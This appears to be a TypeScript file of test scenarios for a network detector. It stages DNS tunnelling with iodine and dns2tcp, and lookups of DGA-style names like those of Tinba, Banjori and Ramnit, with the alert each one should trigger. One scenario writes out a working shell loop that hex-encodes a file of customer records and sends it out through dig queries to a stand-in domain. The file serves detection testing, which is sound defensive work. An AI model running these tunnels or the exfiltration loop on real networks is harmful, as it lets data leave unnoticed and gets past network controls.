import { banjori, ramnit, tinba, twoWords } from '../made-up-names.ts'
import type { Host, Network } from '../network.ts'
import { NAME_SERVER } from '../network.ts'
import type { Scenario } from '../scenario.ts'
import { serveNames, serveSsh, writeFile } from '../servers.ts'
import { CARELESS, listOf } from '../words.ts'

/** Where the zone `tunnel.example` is answered for. */
const FAR = '203.0.113.53'
const ZONE = 't.tunnel.example'

/** A tunnel of iodine that carries some pings of the type it is told to ask by. */
function iodine(type: string): Scenario['run'] {
  return async (network) => {
    const { pc1, web } = network.host
    await serveNames(network, {}, { 'tunnel.example': FAR })
    await web.serve(53, 'iodined', ['-f', '-c', '-P', 'pw', '-l', FAR, '10.99.0.1/24', ZONE])
    pc1.start('iodine', ['-f', '-r', '-T', type, '-P', 'pw', NAME_SERVER, ZONE])
    await pc1.run('sh', ['-c', 'for n in $(seq 60); do ip addr show | grep -q 10.99.0 && break; sleep 0.5; done'])
    await pc1.run('ping', ['-c', '25', '-i', '0.2', '-s', '400', '10.99.0.1'], { timeoutMs: 15_000 })
  }
}

/** As programs ask: by both kinds of addresses. */
async function lookUp(network: Network, from: Host, names: readonly string[]): Promise<void> {
  const file = listOf(network, 'names', names)
  await from.run('sh', ['-c', `while read name; do getent ahosts "$name"; done < ${file}`])
}

const asks = (family: string, names: readonly string[]): Pick<Scenario, 'expects' | 'packages' | 'name' | 'run'> => ({
  name: `dga-c2-${family}`,
  packages: [],
  expects: ['dga-c2 192.168.10.13 → '],
  async run(network) {
    await serveNames(network)
    await lookUp(network, network.host.pc3, names)
  },
})

export const names: readonly Scenario[] = [
  {
    name: 'dns-tunneling-iodine-null',
    story: 'A PC goes past the gateway within look-ups of type NULL (iodine).',
    packages: ['iodine'],
    expects: ['dns-tunneling 192.168.10.11 → tunnel.example'],
    run: iodine('NULL'),
  },
  {
    name: 'dns-tunneling-iodine-txt',
    story: 'The same by text records.',
    packages: ['iodine'],
    expects: ['dns-tunneling 192.168.10.11 → tunnel.example'],
    run: iodine('TXT'),
  },
  {
    name: 'dns-tunneling-iodine-cname',
    story: 'The same by names for names, which look most like browsing.',
    packages: ['iodine'],
    expects: ['dns-tunneling 192.168.10.11 → tunnel.example'],
    run: iodine('CNAME'),
  },
  {
    name: 'dns-tunneling-dns2tcp',
    story: 'A PC works on a far computer by SSH within look-ups (dns2tcp, which asks its own server).',
    packages: ['dns2tcp', 'openssh-server', 'sshpass'],
    expects: ['dns-tunneling 192.168.10.12 → tunnel.example'],
    async run(network) {
      const { pc2, web } = network.host
      await serveSsh(network, web, { sato: CARELESS })
      const config = `listen = ${FAR}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = ${ZONE}\nresources = ssh:127.0.0.1:22\n`
      await web.serve(53, 'dns2tcpd', ['-F', '-f', writeFile(network, 'dns2tcpd.conf', config)])
      await pc2.serve(2222, 'dns2tcpc', ['-z', ZONE, '-r', 'ssh', '-l', '2222', FAR])
      const ssh = [
        '-o',
        'StrictHostKeyChecking=no',
        '-o',
        'UserKnownHostsFile=/dev/null',
        '-p',
        '2222',
        'sato@127.0.0.1',
      ]
      await pc2.run('sshpass', ['-p', CARELESS, 'ssh', ...ssh, 'ls -l /usr/bin | head -200'], { timeoutMs: 40_000 })
    },
  },
  {
    name: 'dns-tunneling-by-hand',
    story: 'A PC carries a list of accounts out, sixty letters at a time, with a shell and dig.',
    packages: ['bind9-dnsutils', 'xxd'],
    expects: ['dns-tunneling 192.168.10.13 → box.example'],
    async run(network) {
      await serveNames(network)
      const list = listOf(
        network,
        'list',
        Array.from({ length: 60 }, (_, n) => `customer ${n * 7919},0192-00-${n * 131}`),
      )
      const loop = `xxd -p -c 30 ${list} | while read piece; do dig +short "$piece.d.box.example"; done`
      await network.host.pc3.run('sh', ['-c', loop])
    },
  },
  { story: 'A PC asks for thirty names as Tinba makes them; none exists (getent).', ...asks('tinba', tinba(30)) },
  { story: 'A PC asks for thirty names as Banjori makes them.', ...asks('banjori', banjori(30)) },
  { story: 'A PC asks for thirty names as Ramnit makes them.', ...asks('ramnit', ramnit(30, 0x79159c10)) },
  { story: 'A PC asks for thirty names of two words, as Suppobox makes them.', ...asks('two-words', twoWords(30)) },
]
